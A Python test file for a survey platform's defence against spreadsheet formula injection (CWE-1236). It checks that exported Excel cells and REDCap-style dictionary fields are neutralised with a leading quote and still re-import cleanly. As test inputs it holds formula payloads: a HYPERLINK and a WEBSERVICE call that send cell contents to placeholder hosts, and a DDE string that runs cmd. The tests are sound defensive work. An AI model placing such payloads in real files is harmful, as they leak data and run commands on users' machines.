"""Text a spreadsheet would run as a formula (CWE-1236) is written with a quote in front: in
Excel files and in the data dictionary, which still re-imports to the same items."""

import csv
import io
from datetime import date

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from surveys.datasets import dataset_long
from surveys.datasets.cells import formula_quote, formula_safe, formula_unquote
from surveys.datasets.formats import write_dataset
from surveys.datasets.writers import _guarded
from surveys.dictionary import dictionary_export, dictionary_import_forms
from surveys.instruments import instrument_items_set
from surveys.models import Instrument, Item, Study

PAYLOAD = '=HYPERLINK("http://example.com/?"&A1,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text",
    [PAYLOAD, "+1+2", "-2+3", DDE, "\t=1+1", "\r=1+1", "=", "-", "-inf", "--99", "- 5 days"],
)
def test_text_that_would_run_gets_a_quote(text):
    assert formula_safe(text) == "'" + text


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.none(),
            st.text(max_size=12),
            st.text(alphabet="=+-@\t\r0123456789.eE 'a", max_size=8),
            st.sampled_from(["-98", "-1.5e3", "+1", ".5", "1.", "-", "=1", "-99\n", "'=a"]),
        ),
        max_size=20,
    )
)
def test_a_csv_column_is_guarded_cell_for_cell_as_formula_safe_guards_one(cells):
    # writers._guarded checks a whole column with Arrow: it must agree with the one-cell rule
    series = pd.Series(cells, dtype="string")
    expected = [None if v is None else formula_safe(v) for v in cells]
    assert _guarded(series).astype(object).where(series.notna(), None).tolist() == expected


@pytest.mark.parametrize(
    "text",
    ["-99", "-3.5", "+1", "-.5", "1e-3", "-1E+5", "", "Calm", "a=b", " =1", "'=1", "[a]+[b]"],
)
def test_numbers_and_plain_text_stay_as_they_are(text):
    assert formula_safe(text) == text


@pytest.mark.parametrize(
    "text", ["=a", "'=a", "''=a", "'hello", "-99", "'", "plain", "@x", "'-99", "\t=1"]
)
def test_the_reversible_quote_comes_off_exactly(text):
    quoted = formula_quote(text)
    assert formula_unquote(quoted) == text
    assert not quoted.startswith(("=", "+", "@", "\t", "\r")) or quoted == text
    assert formula_safe(quoted) == quoted  # nothing a spreadsheet would run


# --- Excel ---------------------------------------------------------------------------------


def test_no_xlsx_text_cell_is_a_formula(study, site_a, enrol, tmp_path):
    enrol(site=site_a, enrolled_on=date(2026, 1, 15))
    Item.objects.filter(version__instrument__study=study, variable="age").update(
        label={"en": PAYLOAD}
    )
    frame = dataset_long(study=study)
    frame["mat_mhg_class"] = frame["mat_mhg_class"].astype("object")
    frame.loc[0, "mat_mhg_class"] = DDE
    frame.loc[1, "mat_mhg_class"] = "-98"  # a missing code written as text stays a code
    frame.loc[2, "mat_mhg_class"] = "=1+1"
    out = tmp_path / "long.xlsx"
    write_dataset(frame, out, "xlsx", study=study)

    workbook = openpyxl.load_workbook(out)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    data = workbook["data"]
    column = [c.value for c in data[1]].index("mat_mhg_class") + 1
    assert data.cell(row=2, column=column).value == "'" + DDE
    assert data.cell(row=3, column=column).value == "-98"
    assert data.cell(row=4, column=column).value == "'=1+1"
    book = pd.read_excel(out, sheet_name="codebook", dtype=str).set_index("name")
    assert book.loc["age", "label"] == "'" + PAYLOAD
    assert book.loc["pid", "label"] == frame.attrs["columns"]["pid"]["label"]
    assert frame.loc[0, "mat_mhg_class"] == DDE  # the frame itself is left as it was


# --- The data dictionary -------------------------------------------------------------------


def _hostile_items() -> list[dict]:
    return [
        {"variable": "intro", "kind": "descriptive", "label": {"en": "@SUM(1+1) Welcome"}},
        {
            "variable": "q1",
            "kind": "single",
            "label": {"en": PAYLOAD},
            "note": {"en": "-2+3 is the note"},
            "section_header": {"en": "+ Section"},
            "choices": [
                {"code": "-1", "label": {"en": "Refused"}},
                {"code": "1", "label": {"en": "=1+1"}},
            ],
            "annotation": "@HIDDEN-SURVEY =still text",
        },
        {
            "variable": "q2",
            "kind": "single",
            "label": {"en": "'=already quoted by someone"},
            "choices": [{"code": "-a", "label": {"en": "Odd code"}}],
            "annotation": DDE,
        },
        {
            "variable": "q3",
            "kind": "slider",
            "label": {"en": "How sure?"},
            "options": {"left": {"en": "-10 worst"}, "right": {"en": "Best"}},
            "min_value": "-10",
            "max_value": "10",
            "branching": "[q1] = '1'",
        },
        {
            "variable": "q4",
            "kind": "calc",
            "label": {"en": "Negative of q3"},
            "calculation": "-[q3] + 1",
        },
    ]


def _rows(text: str) -> dict[str, dict[str, str]]:
    return {
        row["Variable / Field Name"]: row for row in csv.DictReader(io.StringIO(text, newline=""))
    }


@pytest.fixture
def hostile(db):
    study = Study.objects.create(slug="hostile", name="Hostile")
    instrument = Instrument.objects.create(study=study, slug="survey", name="Survey")
    instrument_items_set(instrument=instrument, items=_hostile_items())
    return study


def test_dictionary_cells_of_user_text_cannot_run(hostile):
    rows = _rows(dictionary_export(study=hostile))
    choices = "Choices, Calculations, OR Slider Labels"
    assert rows["q1"]["Field Label"] == "'" + PAYLOAD
    assert rows["q1"]["Field Note"] == "'-2+3 is the note"
    assert rows["q1"]["Section Header"] == "'+ Section"
    assert rows["intro"]["Field Label"] == "'@SUM(1+1) Welcome"
    assert rows["q2"]["Field Label"] == "''=already quoted by someone"
    assert rows["q2"]["Field Annotation"] == "'" + DDE  # a "|": DDE, whatever tag it looks like
    assert rows["q2"][choices] == "'-a, Odd code"
    assert rows["q3"][choices] == "'-10 worst | Best"
    # Left as REDCap reads them: a choice list that starts with a number, an action tag,
    # logic, and numbers.
    assert rows["q1"][choices] == "-1, Refused | 1, =1+1"
    assert rows["q1"]["Field Annotation"] == "@HIDDEN-SURVEY =still text"
    assert rows["q4"][choices] == "-[q3] + 1"
    assert rows["q3"]["Branching Logic (Show field only if...)"] == "[q1] = '1'"
    assert rows["q3"]["Text Validation Min"] == "-10"


def test_an_exported_dictionary_reimports_to_the_same_items(hostile):
    exported = dictionary_export(study=hostile)
    twin = Study.objects.create(slug="twin", name="Twin")
    forms = dictionary_import_forms(study=twin, text=exported)
    assert [(f.instrument.slug, f.outcome) for f in forms] == [("survey", "created")]
    fields = [f.name for f in Item._meta.fields if f.name not in ("id", "version")]
    items = Item.objects.order_by("position")
    original = list(items.filter(version__instrument__study=hostile).values(*fields))
    copied = list(items.filter(version__instrument__study=twin).values(*fields))
    assert copied == original
    assert copied[1]["label"] == {"en": PAYLOAD}
    assert dictionary_export(study=twin) == exported
    # and into the same study again: nothing changed, so no new version
    again = dictionary_import_forms(study=hostile, text=exported)
    assert [f.outcome for f in again] == ["unchanged"]


@pytest.mark.parametrize(
    "annotation",
    ['@WEBSERVICE("http://x.invalid/?"&B2)', '@HYPERLINK("http://x.invalid")', "@SUM(1+1)"],
)
def test_an_annotation_that_is_a_spreadsheet_function_is_quoted(annotation):
    from surveys.dictionary.writer import ANNOTATION, _formula_guard

    assert _formula_guard(ANNOTATION, annotation, "text").startswith("'@")
    assert _formula_guard(ANNOTATION, "@HIDDEN-SURVEY @DEFAULT='1'", "text")[0] == "@"
    assert _formula_guard(ANNOTATION, '@DIARY="group=1"', "text")[0] == "@"
